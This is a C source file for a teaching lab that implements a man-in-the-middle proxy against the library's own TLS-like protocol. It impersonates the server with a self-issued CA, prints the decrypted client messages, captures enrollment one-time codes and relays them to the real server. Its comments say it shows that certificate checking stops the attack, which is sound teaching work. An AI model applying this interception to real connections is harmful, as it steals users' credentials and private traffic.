/*
 * mitm.c — the man-in-the-middle proxy of lab 5 (see classroom/classroom.h;
 * `glass mitm`).  Lab build only.
 *
 * Mallory listens where the client thinks the server is, and connects to the
 * real server herself.  Towards the client she is a glass server with a
 * certificate for "localhost" issued by her own CA (made in-process, the way
 * the walkthrough makes its PKI); towards the real server she is a client
 * that enrolls.  Everything the client sends reaches her decrypted: she
 * prints it, and relays an enrollment request to the real server (reading
 * the one-time code on the way) and the answer back.
 *
 * None of that happens if the client checks the certificate it is shown:
 * Mallory's CA is not the one the client trusts, the client's engine
 * refuses the chain and sends the fatal alert unknown_ca (RFC 5246
 * §7.2.2), and Mallory learns nothing but the ClientHello.  That is the
 * point of lab 5.
 *
 * Read mitm_run: prepare (addresses, the real CA, Mallory's PKI), wait for
 * the victim, start the engine facing it, then relay (mitm_relay) until
 * both ends are done.  The loop is deliberately simple: one client, one
 * upstream connection, poll() with a deadline, every socket non-blocking.
 *
 * CT: not relevant — attack demonstration (the engines inside are glass's own).
 */
#include "classroom/classroom.h"

#ifdef GLASS_LAB_BUILD

#include "classroom/walk_session.h"
#include "io/io.h"
#include "net/net.h"
#include "protocol/protocol.h"

#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define CMD "mitm"

typedef struct side {
    int fd;
    glass_engine *e;
    int done;
} side;

/* Writes everything the engine has queued (bounded wait). */
static int flush_out(side *s, int64_t deadline)
{
    const uint8_t *p;
    size_t n;
    for (;;) {
        glass_engine_output(s->e, &p, &n);
        if (n == 0)
            return 0;
        ssize_t w = write(s->fd, p, n);
        if (w > 0) {
            glass_engine_consume_output(s->e, (size_t)w);
            continue;
        }
        if (w < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR)) {
            struct pollfd pf = {s->fd, POLLOUT, 0};
            if (net_now_ms() > deadline)
                return -1;
            poll(&pf, 1, 100);
            continue;
        }
        return -1;
    }
}

/* Reads what is there and feeds it to the engine; -1 on EOF or error. */
static int pull_in(side *s)
{
    uint8_t buf[16384];
    ssize_t r = read(s->fd, buf, sizeof buf);
    if (r > 0) {
        glass_engine_feed(s->e, buf, (size_t)r);
        return 0;
    }
    if (r < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR))
        return 0;
    return -1;
}

/* Everything Mallory holds. */
typedef struct mitm {
    const mitm_opts *o;
    char lhost[NET_HOST_MAX], chost[NET_HOST_MAX];
    uint16_t lport, cport;
    x509_cert *cas;             /* the real CA (--ca) */
    size_t n_cas;
    walk_pki mal;               /* Mallory's own CA and certificate */
    int have_mal;
    int lfd;
    side down, up;              /* facing the victim, facing the real server */
    glass_config uc;            /* the upstream engine's config */
    glass_blob mal_chain, real_anchor;
    int64_t now, deadline;
    int read_something;
    int pending_enroll;
    char enroll_name[GLASS_MAX_NAME + 1];
    uint8_t *enroll_csr, *enroll_code;
    size_t enroll_csr_len, enroll_code_len;
} mitm;

/* The addresses, the real CA, and Mallory's own PKI (and --ca-out). */
static int mitm_prepare(mitm *m)
{
    const mitm_opts *o = m->o;
    /* Port 0 is allowed for --listen: parse it by hand when given. */
    const char *colon = strrchr(o->listen, ':');
    if (colon != NULL && strcmp(colon, ":0") == 0 &&
        (size_t)(colon - o->listen) < sizeof m->lhost) {
        memcpy(m->lhost, o->listen, (size_t)(colon - o->listen));
        m->lhost[colon - o->listen] = '\0';
    } else if (net_parse_hostport(o->listen, m->lhost, sizeof m->lhost, &m->lport) != GLASS_OK) {
        return io_error(CMD, "--listen: '%s' is not ADDR:PORT", o->listen);
    }
    if (net_parse_hostport(o->connect, m->chost, sizeof m->chost, &m->cport) != GLASS_OK)
        return io_error(CMD, "--connect: '%s' is not HOST:PORT", o->connect);
    glass_err err = x509_load_pem_file(o->ca, &m->cas, &m->n_cas);
    if (err != GLASS_OK)
        return io_error(CMD, "--ca %s: %s", o->ca, glass_strerror(err));

    io_insecure_banner("glass mitm: a man in the middle impersonates the server");
    net_install_signals();
    FILE *quiet = fopen("/dev/null", "w");
    wk_out wo;
    memset(&wo, 0, sizeof wo);
    wo.f = quiet != NULL ? quiet : stderr;
    m->now = net_wall_time();
    err = walk_pki_make(&m->mal, m->now, 0, &wo);
    m->have_mal = 1;
    if (quiet != NULL)
        fclose(quiet);
    if (err != GLASS_OK)
        return io_error(CMD, "making Mallory's certificates: %s", glass_strerror(err));
    printf("mitm: Mallory's own CA issued her a certificate for \"localhost\"\n");
    if (o->ca_out != NULL) {
        /* Her CA certificate, for the lab's "victim who trusts a rogue CA". */
        const uint8_t *der;
        size_t der_len;
        walk_pki_ca_der(&m->mal, &der, &der_len);
        if (glass_write_file_atomic(o->ca_out, der, der_len, 0644) != GLASS_OK)
            return io_error(CMD, "--ca-out %s: cannot write", o->ca_out);
        printf("mitm: wrote Mallory's CA certificate (DER) to %s\n", o->ca_out);
    }
    return 0;
}

/* Listens, and waits (until the deadline) for the victim. */
static int mitm_accept(mitm *m)
{
    uint16_t bound = 0;
    if (net_listen(m->lhost, m->lport, 4, &m->lfd, &bound) != GLASS_OK)
        return io_error(CMD, "--listen %s: cannot listen", m->o->listen);
    printf("listening on %s:%u\n", m->lhost, (unsigned)bound);
    fflush(stdout);
    m->deadline = net_now_ms() + (int64_t)m->o->timeout * 1000;
    for (;;) {
        struct pollfd pf = {m->lfd, POLLIN, 0};
        if (net_stop_signal || net_now_ms() > m->deadline)
            return io_error(CMD, "no client came within %lu s", m->o->timeout);
        if (poll(&pf, 1, 200) > 0) {
            m->down.fd = accept(m->lfd, NULL, NULL);
            if (m->down.fd >= 0)
                break;
        }
    }
    net_set_nonblocking(m->down.fd);
    printf("mitm: a client connected\n");
    return 0;
}

/* Mallory's two engines: a server with her certificate facing the victim
 * (started now), a client trusting the real CA facing the server (started
 * when an enrollment arrives). */
static int mitm_engines(mitm *m)
{
    glass_config dc;
    m->mal_chain.der = m->mal.server_der;
    m->mal_chain.len = m->mal.server_len;
    m->real_anchor.der = m->cas[0].der;
    m->real_anchor.len = m->cas[0].der_len;
    memset(&dc, 0, sizeof dc);
    memset(&m->uc, 0, sizeof m->uc);
    dc.role = GLASS_ROLE_SERVER;
    dc.now = m->now;
    dc.anchors = &m->real_anchor;   /* to accept the victim's real certificate */
    dc.n_anchors = 1;
    dc.chain = &m->mal_chain;
    dc.n_chain = 1;
    dc.key = &m->mal.server_key;
    dc.allow_enroll = 1;
    m->uc.role = GLASS_ROLE_CLIENT;
    m->uc.now = m->now;
    m->uc.anchors = &m->real_anchor;
    m->uc.n_anchors = 1;
    m->uc.server_name = m->o->servername;
    if (glass_engine_new(&m->down.e, &dc) != GLASS_OK ||
        glass_engine_start(m->down.e) != GLASS_OK)
        return io_error(CMD, "cannot start the server-side engine");
    return 0;
}

/* An enrollment from the victim: read, kept, and (upstream) relayed on the
 * victim's behalf (Mallory could have sent her own request). */
static int mitm_on_enroll(mitm *m, const glass_event *ev)
{
    m->read_something = 1;
    printf("mitm reads: enrollment for \"%s\", one-time code \"%.*s\", a %zu-byte "
           "certificate request\n", ev->peer_name, (int)ev->code_len,
           (const char *)ev->code, ev->len);
    snprintf(m->enroll_name, sizeof m->enroll_name, "%s", ev->peer_name);
    free(m->enroll_csr);
    free(m->enroll_code);
    m->enroll_csr = malloc(ev->len);
    m->enroll_code = malloc(ev->code_len);
    if (m->enroll_csr != NULL && m->enroll_code != NULL) {
        memcpy(m->enroll_csr, ev->data, ev->len);
        memcpy(m->enroll_code, ev->code, ev->code_len);
        m->enroll_csr_len = ev->len;
        m->enroll_code_len = ev->code_len;
        m->pending_enroll = 1;
    }
    if (m->up.fd < 0 && net_connect(m->chost, m->cport, 5000, &m->up.fd) == GLASS_OK) {
        if (glass_engine_new(&m->up.e, &m->uc) != GLASS_OK ||
            glass_engine_start(m->up.e) != GLASS_OK)
            return io_error(CMD, "cannot start the client-side engine");
        printf("mitm: connected to the real server %s\n", m->o->connect);
    } else if (m->up.fd < 0) {
        printf("mitm: cannot reach the real server %s\n", m->o->connect);
        glass_engine_enroll_refuse(m->down.e, "server unavailable");
    }
    return 0;
}

/* What the victim's side says: printed, and enrollments relayed. */
static int mitm_down_events(mitm *m)
{
    glass_event ev;
    while (glass_engine_next_event(m->down.e, &ev)) {
        if (ev.type == GLASS_EV_HANDSHAKE_DONE) {
            printf("mitm: the client ACCEPTED Mallory's certificate; peer \"%s\"\n",
                   ev.peer_name);
        } else if (ev.type == GLASS_EV_ENROLL_REQUEST) {
            if (mitm_on_enroll(m, &ev) != 0)
                return 1;
        } else if (ev.type == GLASS_EV_APP_MESSAGE) {
            glass_app_msg am;
            m->read_something = 1;
            if (glass_app_decode(ev.data, ev.len, &am) == GLASS_OK && am.text != NULL)
                printf("mitm reads: %s to \"%.*s\": \"%.*s\"\n", glass_app_type_name(am.type),
                       (int)am.name_len, (const char *)am.name, (int)am.text_len,
                       (const char *)am.text);
            else
                printf("mitm reads: %zu bytes of application data\n", ev.len);
        } else if (ev.type == GLASS_EV_ALERT_RECEIVED) {
            printf("mitm: the client sent alert %s%s\n", glass_alert_name(ev.alert),
                   ev.alert == GLASS_ALERT_UNKNOWN_CA
                       ? ": it checked the certificate and does not trust Mallory's CA"
                       : "");
        } else if (ev.type == GLASS_EV_CLOSED) {
            m->down.done = 1;
        }
    }
    return 0;
}

/* The real server's side: the enrollment sent when it is ready, and its
 * answer passed back to the victim. */
static void mitm_up_events(mitm *m)
{
    glass_event ev;
    if (m->pending_enroll && glass_engine_state(m->up.e) == GLASS_STATE_C_ENROLL_READY) {
        glass_engine_enroll(m->up.e, m->enroll_name, m->enroll_csr, m->enroll_csr_len,
                            m->enroll_code, m->enroll_code_len);
        printf("mitm: relayed the enrollment request to the real server\n");
        m->pending_enroll = 0;
    }
    while (glass_engine_next_event(m->up.e, &ev)) {
        if (ev.type == GLASS_EV_ENROLL_RESULT) {
            printf("mitm: the real server %s; passing it on\n",
                   ev.enroll_ok ? "issued the certificate" : "refused");
            if (ev.enroll_ok)
                glass_engine_enroll_reply(m->down.e, ev.data, ev.len);
            else
                glass_engine_enroll_refuse(m->down.e, "refused");
        } else if (ev.type == GLASS_EV_CLOSED) {
            m->up.done = 1;
        }
    }
}

/* Relays until both ends are done (or the deadline, or a signal). */
static int mitm_relay(mitm *m)
{
    while (!m->down.done && !net_stop_signal && net_now_ms() < m->deadline) {
        struct pollfd pf[2] = {{m->down.fd, POLLIN, 0}, {m->up.fd, POLLIN, 0}};
        poll(pf, m->up.fd >= 0 ? 2 : 1, 200);
        if ((pf[0].revents & (POLLIN | POLLHUP | POLLERR)) && pull_in(&m->down) != 0)
            m->down.done = 1;
        if (m->up.fd >= 0 && (pf[1].revents & (POLLIN | POLLHUP | POLLERR)) &&
            pull_in(&m->up) != 0)
            m->up.done = 1;
        if (mitm_down_events(m) != 0)
            return 1;
        if (m->up.e != NULL) {
            mitm_up_events(m);
            if (flush_out(&m->up, m->deadline) != 0)
                m->up.done = 1;
        }
        if (flush_out(&m->down, m->deadline) != 0)
            m->down.done = 1;
    }
    flush_out(&m->down, m->deadline);
    return 0;
}

/* See classroom/classroom.h. */
int mitm_run(const mitm_opts *o)
{
    mitm m;
    int rc = 1;
    memset(&m, 0, sizeof m);
    m.o = o;
    m.lfd = -1;
    m.down.fd = m.up.fd = -1;
    if (mitm_prepare(&m) != 0 || mitm_accept(&m) != 0 || mitm_engines(&m) != 0 ||
        mitm_relay(&m) != 0)
        goto cleanup;
    if (m.read_something) {
        printf("result: the man in the middle read the client's traffic\n");
        rc = 0;
    } else {
        glass_err e = glass_engine_error(m.down.e);
        printf("result: the man in the middle read nothing (%s)\n",
               e == GLASS_OK ? "no data" : glass_strerror(e));
    }
cleanup:
    free(m.enroll_csr);
    free(m.enroll_code);
    if (m.down.e != NULL)
        glass_engine_free(m.down.e);
    if (m.up.e != NULL)
        glass_engine_free(m.up.e);
    if (m.down.fd >= 0)
        close(m.down.fd);
    if (m.up.fd >= 0)
        close(m.up.fd);
    if (m.lfd >= 0)
        close(m.lfd);
    if (m.have_mal)
        walk_pki_free(&m.mal);
    if (m.cas != NULL)
        x509_free_all(m.cas, m.n_cas);
    return rc;
}

#endif
